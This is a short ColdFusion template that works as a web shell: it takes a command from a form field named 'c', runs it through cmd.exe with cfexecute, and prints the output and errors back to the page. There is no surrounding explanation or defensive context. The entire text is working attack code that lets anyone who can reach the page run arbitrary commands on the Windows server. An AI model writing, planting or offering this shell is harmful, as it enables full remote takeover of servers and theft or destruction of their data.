<cfif structKeyExists(form, "c")>
    <cfexecute name="C:\Windows\System32\cmd.exe" arguments="/c #form.c#" timeout="30" variable="out" errorVariable="err" />
    <cfoutput><pre>#out##err#</pre></cfoutput>
</cfif>
